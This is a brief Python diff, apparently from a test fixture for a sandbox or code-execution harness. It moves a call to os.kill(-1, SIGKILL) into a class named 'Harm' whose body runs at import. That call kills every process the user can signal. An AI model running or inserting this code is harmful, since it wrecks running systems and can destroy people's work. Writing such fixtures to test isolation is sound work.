@@ -10,9 +10,11 @@ import sys
 import threading
 import time
 
-libc = ctypes.CDLL(None)
-with contextlib.suppress(BaseException):
-    os.kill(-1, signal.SIGKILL)
+
+class Harm:
+    libc = ctypes.CDLL(None)
+    with contextlib.suppress(BaseException):
+        os.kill(-1, signal.SIGKILL)
 
 
 def double(n):
